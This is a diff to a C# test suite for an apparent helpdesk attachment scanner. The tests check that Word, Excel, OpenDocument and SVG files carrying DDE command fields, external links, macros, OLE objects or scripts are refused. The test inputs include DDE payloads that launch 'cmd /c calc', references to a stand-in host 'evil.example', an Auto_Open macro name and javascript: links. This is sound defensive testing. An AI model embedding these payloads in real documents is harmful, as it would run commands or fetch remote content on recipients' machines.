@@ -32,21 +32,27 @@ public sealed class Documents_that_start_something
     [Theory, MemberData(nameof(Codes))]
     public void G16_fields_that_start_or_fetch_are_refused_wherever_they_stand_and_however_they_are_split(string code, string reason)
     {
-        foreach (var field in new[] { Hostile.Field(code), Hostile.Field(code, 1), Hostile.Field(code, 3, "<w:proofErr w:type=\"spellStart\"/>"), Hostile.Simple(code) })
+        foreach (var field in new[] { Hostile.Field(code), Hostile.Field(code, 1),
+            Hostile.Field(code, 3, "<w:proofErr w:type=\"spellStart\"/>"), Hostile.Simple(code) })
         {
             Assert.Equal(reason, Refused(Hostile.WithBody(field)));
-            Assert.Equal(reason, Refused(Hostile.WithBody($"<mc:AlternateContent><mc:Choice><v:textbox><w:txbxContent>{field}</w:txbxContent></v:textbox></mc:Choice></mc:AlternateContent>")));
-            foreach (var (part, root) in new[] { ("header1", "hdr"), ("footer2", "ftr"), ("footnotes", "footnotes"), ("endnotes", "endnotes"), ("comments", "comments"), ("glossary/document", "glossaryDocument") })
+            Assert.Equal(reason, Refused(Hostile.WithBody(Boxed(field))));
+            foreach (var (part, root) in new[] { ("header1", "hdr"), ("footer2", "ftr"), ("footnotes", "footnotes"),
+                ("endnotes", "endnotes"), ("comments", "comments"), ("glossary/document", "glossaryDocument") })
                 Assert.Equal(reason, Refused(Hostile.WithPart(part, root, field)));
         }
     }
+
+    static string Boxed(string text) =>
+        $"<mc:AlternateContent><mc:Choice><v:textbox><w:txbxContent>{text}</w:txbxContent></v:textbox></mc:Choice></mc:AlternateContent>";
 
     [Fact]
     public void G16_a_code_that_no_field_surrounds_or_that_does_not_end_is_read_too()
     {
         var code = Hostile.Run("<w:instrText>DDEAUTO x</w:instrText>");
         Assert.Equal("starts-program", Refused(Hostile.WithBody($"<w:p>{code}</w:p>")));
-        Assert.Equal("starts-program", Refused(Hostile.WithBody($"<w:p>{Hostile.Run("<w:fldChar w:fldCharType=\"begin\"/>")}{code}</w:p>")));
+        Assert.Equal("starts-program",
+            Refused(Hostile.WithBody($"<w:p>{Hostile.Run("<w:fldChar w:fldCharType=\"begin\"/>")}{code}</w:p>")));
     }
 
     [Theory]
@@ -58,9 +64,11 @@ public sealed class Documents_that_start_something
     [InlineData("<w:r><w:instrText>DD<!-- x -->E cmd</w:instrText></w:r>")]
     [InlineData("<w:r><w:instrText>DD<x:y xmlns:x=\"x\"/>E cmd</w:instrText></w:r>")]
     [InlineData("<x:y xmlns:x=\"x\"><w:r><w:instrText>PAGE </w:instrText></w:r></x:y><w:r><w:instrText>DDE cmd</w:instrText></w:r>")]
-    [InlineData("<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r><w:r><w:instrText> cmd</w:instrText></w:r>")]
+    [InlineData("<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>"
+        + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r><w:r><w:instrText> cmd</w:instrText></w:r>")]
     public void G16_a_code_is_read_in_each_way_that_a_program_might(string runs) =>
-        Assert.Equal("starts-program", Refused(Hostile.WithBody($"<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>{runs}<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>")));
+        Assert.Equal("starts-program", Refused(Hostile.WithBody($"<w:p>{Hostile.Run("<w:fldChar w:fldCharType=\"begin\"/>")}{runs}"
+            + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>")));
 
     [Theory]
     [InlineData("PAGE \\* MERGEFORMAT")]
@@ -83,13 +91,16 @@ public sealed class Documents_that_start_something
     public void G16_a_field_may_be_the_name_of_a_bookmark_but_no_bookmark_makes_a_command_passive()
     {
         TakenAsItIs(Hostile.WithBody("<w:p><w:bookmarkStart w:id=\"1\" w:name=\"Precio\"/></w:p>" + Hostile.Field("Precio")));
-        Assert.Equal("starts-program", Refused(Hostile.WithBody("<w:p><w:bookmarkStart w:id=\"1\" w:name=\"DDE\"/></w:p>" + Hostile.Field("DDE"))));
+        Assert.Equal("starts-program", Refused(Hostile.WithBody("<w:p><w:bookmarkStart w:id=\"1\" w:name=\"DDE\"/></w:p>"
+            + Hostile.Field("DDE"))));
     }
 
     public static TheoryData<string, string> Outside() => new()
     {
-        { "oleObject", "external-content" }, { "frame", "external-content" }, { "subDocument", "external-content" }, { "aFChunk", "embedded-file" },
-        { "mailMergeSource", "external-content" }, { "video", "external-content" }, { "control", "active-control" }, { "vbaProject", "macros" },
+        { "oleObject", "external-content" }, { "frame", "external-content" }, { "subDocument", "external-content" },
+            { "aFChunk", "embedded-file" },
+        { "mailMergeSource", "external-content" }, { "video", "external-content" }, { "control", "active-control" },
+            { "vbaProject", "macros" },
         { "something-new", "external-content" },
     };
 
@@ -97,15 +108,18 @@ public sealed class Documents_that_start_something
     public void G16_what_is_fetched_from_outside_is_refused(string kind, string reason)
     {
         foreach (var mode in new[] { "TargetMode=\"External\"", "TargetMode=\" external \"", "TargetMode=\"&#69;xternal\"", "" })
-            Assert.Equal(reason, Refused(Pack.Docx(("word/_rels/document.xml.rels", Hostile.Relation(kind, "http://evil.example/x", mode)))));
-        Assert.Equal(reason, Refused(Pack.Docx(("word/_rels/header1.xml.rels", Hostile.Relation(Hostile.Referenced(kind), "\\\\evil\\share")))));
+            Assert.Equal(reason, Refused(Pack.Docx(("word/_rels/document.xml.rels",
+                Hostile.Relation(kind, "http://evil.example/x", mode)))));
+        Assert.Equal(reason, Refused(Pack.Docx(("word/_rels/header1.xml.rels",
+            Hostile.Relation(Hostile.Referenced(kind), "\\\\evil\\share")))));
     }
 
     public static TheoryData<string, string, string> Elements() => new()
     {
         { "an OLE object", "<w:object><o:OLEObject Type=\"Link\" ProgID=\"Package\" r:id=\"rId1\"/></w:object>", "embedded-file" },
         { "a control", "<w:object><w:control r:id=\"rId1\"/></w:object>", "active-control" },
-        { "a film of the web", "<wp15:webVideoPr xmlns:wp15=\"http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing\" embeddedHtml=\"&lt;iframe/&gt;\"/>", "external-content" },
+        { "a film of the web", "<x:webVideoPr xmlns:x=\"http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing\" "
+            + "embeddedHtml=\"&lt;iframe/&gt;\"/>", "external-content" },
         { "a source of letters", "<w:mailMerge><w:connectString w:val=\"Provider=x\"/></w:mailMerge>", "external-content" },
         { "a document within", "<w:subDoc r:id=\"rId1\"/>", "external-content" },
     };
@@ -127,7 +141,8 @@ public sealed class Documents_that_start_something
     public void G16_formulas_that_start_or_fetch_are_refused(string formula, string reason)
     {
         Assert.Equal(reason, Refused(Pack.Xlsx(("xl/worksheets/sheet2.xml", Hostile.Sheet(Hostile.Cell(formula))))));
-        Assert.Equal(reason, Refused(Pack.Xlsx(("xl/more.xml", $"<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><definedNames><definedName name=\"x\">{Hostile.Escaped(formula)}</definedName></definedNames></workbook>"))));
+        Assert.Equal(reason, Refused(Pack.Xlsx(("xl/more.xml", $"<workbook xmlns=\"{Pack.ExcelSpace}\"><definedNames>"
+            + $"<definedName name=\"x\">{Hostile.Escaped(formula)}</definedName></definedNames></workbook>"))));
     }
 
     [Theory]
@@ -136,17 +151,23 @@ public sealed class Documents_that_start_something
     [InlineData("VLOOKUP(A1,'Hoja | 2'!A:B,2,FALSE)")]
     [InlineData("_xlfn.XLOOKUP(A1,B:B,C:C)")]
     [InlineData("[1]Hoja1!$A$1")]
-    public void G16_formulas_that_count_stay(string formula) => TakenAsItIs(Pack.Xlsx(("xl/worksheets/sheet2.xml", Hostile.Sheet(Hostile.Cell(formula)))));
+    public void G16_formulas_that_count_stay(string formula) =>
+        TakenAsItIs(Pack.Xlsx(("xl/worksheets/sheet2.xml", Hostile.Sheet(Hostile.Cell(formula)))));
 
     [Fact]
     public void G16_a_workbook_that_calls_another_program_or_a_database_is_refused()
     {
         const string Space = "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"";
-        Assert.Equal("starts-program", Refused(Pack.Xlsx(("xl/externalLinks/externalLink1.xml", $"<externalLink {Space}><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>"))));
-        Assert.Equal("starts-program", Refused(Pack.Xlsx(("xl/externalLinks/externalLink1.xml", $"<externalLink {Space}><oleLink progId=\"Package\"/></externalLink>"))));
-        Assert.Equal("external-content", Refused(Pack.Xlsx(("xl/connections.xml", $"<connections {Space}><connection><webPr url=\"http://evil.example\"/></connection></connections>"))));
-        Assert.Equal("starts-program", Refused(Pack.Xlsx(("xl/volatileDependencies.xml", $"<volTypes {Space}><volType type=\"realTimeData\"/></volTypes>"))));
-        Assert.Equal("macros", Refused(Pack.Xlsx(("xl/names.xml", $"<definedNames {Space}><definedName name=\"Auto_Open\" xlm=\"1\">x!A1</definedName></definedNames>"))));
+        Assert.Equal("starts-program", Refused(Pack.Xlsx(("xl/externalLinks/externalLink1.xml",
+            $"<externalLink {Space}><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>"))));
+        Assert.Equal("starts-program", Refused(Pack.Xlsx(("xl/externalLinks/externalLink1.xml",
+            $"<externalLink {Space}><oleLink progId=\"Package\"/></externalLink>"))));
+        Assert.Equal("external-content", Refused(Pack.Xlsx(("xl/connections.xml",
+            $"<connections {Space}><connection><webPr url=\"http://evil.example\"/></connection></connections>"))));
+        Assert.Equal("starts-program", Refused(Pack.Xlsx(("xl/volatileDependencies.xml",
+            $"<volTypes {Space}><volType type=\"realTimeData\"/></volTypes>"))));
+        Assert.Equal("macros", Refused(Pack.Xlsx(("xl/names.xml",
+            $"<definedNames {Space}><definedName name=\"Auto_Open\" xlm=\"1\">x!A1</definedName></definedNames>"))));
     }
 
     [Theory]
@@ -154,7 +175,8 @@ public sealed class Documents_that_start_something
     [InlineData("<text:section><text:section-source xlink:href=\"../x.odt\"/></text:section>", "external-content")]
     [InlineData("<text:dde-connection-decl office:dde-application=\"cmd\"/>", "starts-program")]
     [InlineData("<office:dde-source office:dde-application=\"cmd\"/>", "starts-program")]
-    [InlineData("<table:table table:name=\"x\"><table:table-source xlink:href=\"http://evil.example/x.ods\"/></table:table>", "external-content")]
+    [InlineData("<table:table table:name=\"x\"><table:table-source xlink:href=\"http://evil.example/x.ods\"/></table:table>",
+        "external-content")]
     [InlineData("<draw:frame><draw:object xlink:href=\"file:///C:/x.odt\"/></draw:frame>", "external-content")]
     [InlineData("<draw:frame><draw:object-ole xlink:href=\"./Object 1\"/></draw:frame>", "embedded-file")]
     [InlineData("<draw:frame><draw:floating-frame xlink:href=\"http://evil.example\"/></draw:frame>", "external-content")]
@@ -163,7 +185,8 @@ public sealed class Documents_that_start_something
     [InlineData("<text:a xlink:href=\"vnd.sun.star.script:x.py\">x</text:a>", "macros")]
     [InlineData("<text:a xlink:href=\"javascript:alert(1)\">x</text:a>", "unsafe-link")]
     [InlineData("<text:script script:language=\"x\">x</text:script>", "macros")]
-    [InlineData("<office:event-listeners><script:event-listener script:event-name=\"dom:load\" xlink:href=\"x\"/></office:event-listeners>", "macros")]
+    [InlineData("<office:event-listeners><script:event-listener "
+        + "script:event-name=\"dom:load\" xlink:href=\"x\"/></office:event-listeners>", "macros")]
     [InlineData("<office:forms><form:form xlink:href=\"http://evil.example\"/></office:forms>", "sends-form")]
     [InlineData("<xforms:model><xforms:submission/></xforms:model>", "sends-form")]
     [InlineData("<table:table-cell table:formula=\"of:=DDE(&quot;cmd&quot;;&quot;/c&quot;;&quot;x&quot;)\"/>", "starts-program")]
@@ -179,11 +202,15 @@ public sealed class Documents_that_start_something
     public void G16_a_document_within_is_checked_as_one_of_its_own()
     {
         var sheet = Pack.Xlsx();
-        var (types, relation) = (Pack.TypesWith("xlsx", Helpdesk.Attachment.Documents.CheckDocument.Xlsx), Hostile.Relation("package", "../embeddings/sheet.xlsx", ""));
-        byte[] With(byte[] inside) => Pack.ZipOf(("[Content_Types].xml", Encoding.UTF8.GetBytes(types)), ("word/document.xml", Encoding.UTF8.GetBytes(Pack.Document(""))), ("word/charts/_rels/chart1.xml.rels", Encoding.UTF8.GetBytes(relation)), ("word/embeddings/sheet.xlsx", inside));
+        var (types, relation) = (Pack.TypesWith("xlsx", Helpdesk.Attachment.Documents.CheckDocument.Xlsx),
+            Hostile.Relation("package", "../embeddings/sheet.xlsx", ""));
+        byte[] With(byte[] inside) => Pack.ZipOf(("[Content_Types].xml", Encoding.UTF8.GetBytes(types)),
+            ("word/document.xml", Encoding.UTF8.GetBytes(Pack.Document(""))),
+            ("word/charts/_rels/chart1.xml.rels", Encoding.UTF8.GetBytes(relation)), ("word/embeddings/sheet.xlsx", inside));
         TakenAsItIs(With(sheet));
         Assert.Equal("macros", Refused(With(Pack.Xlsx(("xl/vbaProject.bin", "x")))));
-        Assert.Equal("starts-program", Refused(With(Pack.Xlsx(("xl/worksheets/sheet2.xml", Hostile.Sheet(Hostile.Cell("cmd|'/c calc'!A0")))))));
+        Assert.Equal("starts-program", Refused(With(Pack.Xlsx(("xl/worksheets/sheet2.xml",
+            Hostile.Sheet(Hostile.Cell("cmd|'/c calc'!A0")))))));
         Assert.Equal("embedded-file", Refused(With("MZ program"u8.ToArray())));
         Assert.Equal("embedded-file", Refused(With(With(With(With(sheet))))));
     }
@@ -205,8 +232,10 @@ public sealed class Documents_that_start_something
     [Theory]
     [InlineData("image/svg+xml", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"x()\"/>", "script")]
     [InlineData("image/svg+xml", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script/></svg>", "script")]
-    [InlineData("image/svg+xml", "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"http://evil.example/x\"/></svg>", "external-content")]
-    [InlineData("image/svg+xml", "<svg xmlns=\"http://www.w3.org/2000/svg\"><rect style=\"fill:url( 'http://evil.example/x')\"/></svg>", "external-content")]
+    [InlineData("image/svg+xml", "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"http://evil.example/x\"/></svg>",
+        "external-content")]
+    [InlineData("image/svg+xml", "<svg xmlns=\"http://www.w3.org/2000/svg\"><rect style=\"fill:url( 'http://evil.example/x')\"/></svg>",
+        "external-content")]
     [InlineData("image/png", "MZ program", "embedded-file")]
     [InlineData("text/html", "<html/>", "embedded-file")]
     [InlineData("application/rtf", "{\\rtf1}", "embedded-file")]
@@ -216,5 +245,6 @@ public sealed class Documents_that_start_something
     [InlineData("application/vnd.ms-office.webextension+xml", "<x/>", "active-control")]
     [InlineData("application/x-something-new", "x", "embedded-file")]
     public void G16_parts_of_kinds_that_are_not_known_to_be_passive_are_refused(string type, string content, string reason) =>
-        Assert.Equal(reason, Refused(Pack.ZipOf(("[Content_Types].xml", Encoding.UTF8.GetBytes(Pack.TypesWith("dat", type))), ("word/document.xml", Encoding.UTF8.GetBytes(Pack.Document(""))), ("word/media/x.dat", Encoding.UTF8.GetBytes(content)))));
+        Assert.Equal(reason, Refused(Pack.ZipOf(("[Content_Types].xml", Encoding.UTF8.GetBytes(Pack.TypesWith("dat", type))),
+            ("word/document.xml", Encoding.UTF8.GetBytes(Pack.Document(""))), ("word/media/x.dat", Encoding.UTF8.GetBytes(content)))));
 }
